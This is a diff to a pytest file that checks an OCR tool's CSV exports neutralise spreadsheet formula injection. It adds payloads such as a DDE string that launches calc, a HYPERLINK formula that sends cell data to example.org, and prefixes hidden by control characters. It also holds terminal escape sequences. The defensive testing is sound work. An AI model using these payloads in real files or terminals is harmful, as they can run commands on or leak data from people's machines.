@@ -14,9 +14,9 @@ import pytest
 
 from ocrfix.cli.terminal import tame
 from ocrfix.emit import FORMATS, render
-from ocrfix.emit.listing import CARDS, MARKERS
+from ocrfix.emit.listing import CARDS, CHANGES, MARKERS
 from ocrfix.emit.written import TextWriter
-from ocrfix.model import Card, Document, Marker, Source
+from ocrfix.model import Card, Document, Edit, Marker, Source
 
 ROOT = Path(__file__).resolve().parent.parent
 PACKAGE = ROOT / "ocrfix"
@@ -34,6 +34,17 @@ FORMULAS = [
     "＋1",
     "－1",
     "＠x",
+    "\0=1",
+    "\x1f=1",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u200e \u202d+1",
+    "\xa0=1",
+    "\u3000=1",
+    "\x85@x",
+    "\u2028=1",
+    '=HYPERLINK("http://example.org?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
 ]
 
 
@@ -42,16 +53,18 @@ def document(text: str) -> Document:
         start=0, end=len(text), type="stamp", text=text, clean_start=0, clean_end=len(text),
         code=text, fields={"number": text},
     )  # fmt: skip
+    made = Edit(start=0, end=0, before="", after=text, kind="misread", confidence=0.9, reason=text,
+                clean_start=0, clean_end=len(text))  # fmt: skip
     return Document(
-        original=text, clean=text, markers=(marker,), source=Source(name=text),
+        original=text, clean=text, markers=(marker,), suggestions=(made,), source=Source(name=text),
         card=Card(subject=text, from_=text, captions=(text,), exemptions={text: 1}),
     )  # fmt: skip
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_cell_is_a_formula(formula: str) -> None:
-    tables = [render(document(formula), "csv")]
-    for listing in (CARDS, MARKERS):
+    tables = [render(document(formula), "csv"), render(document(formula), "changes")]
+    for listing in (CARDS, MARKERS, CHANGES):
         parts: list[bytes] = []
         TextWriter(listing, "csv", parts.append).add(document(formula))
         tables.append(b"".join(parts).decode("utf-8"))
@@ -59,7 +72,8 @@ def test_no_cell_is_a_formula(formula: str) -> None:
         for row in csv.reader(io.StringIO(table, newline="")):
             for cell in row:
                 assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", *"＝＋－＠")
-                assert cell.lstrip()[:1] not in ("=", "+", "-", "@")
+                shown = "".join(sign for sign in cell if sign.isprintable()).lstrip("\u3000 ")
+                assert shown[:1] not in ("=", "+", "-", "@")
 
 
 ORDERS = "\x1b]0;owned\x07 \x1b[2J \x9b31m \x08\x08 \r over \u202etxet \u2066x \x7f"
